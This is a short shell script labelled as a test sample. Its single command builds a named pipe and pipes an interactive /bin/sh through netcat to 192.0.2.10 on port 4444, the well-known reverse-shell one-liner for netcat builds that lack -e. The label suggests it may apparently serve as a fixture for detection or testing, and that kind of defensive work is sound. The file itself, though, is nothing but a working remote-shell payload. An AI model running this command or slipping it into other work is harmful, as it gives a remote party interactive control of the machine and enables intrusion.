#!/bin/sh
# test sample: named pipe between sh and netcat (for nc builds without -e)
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f
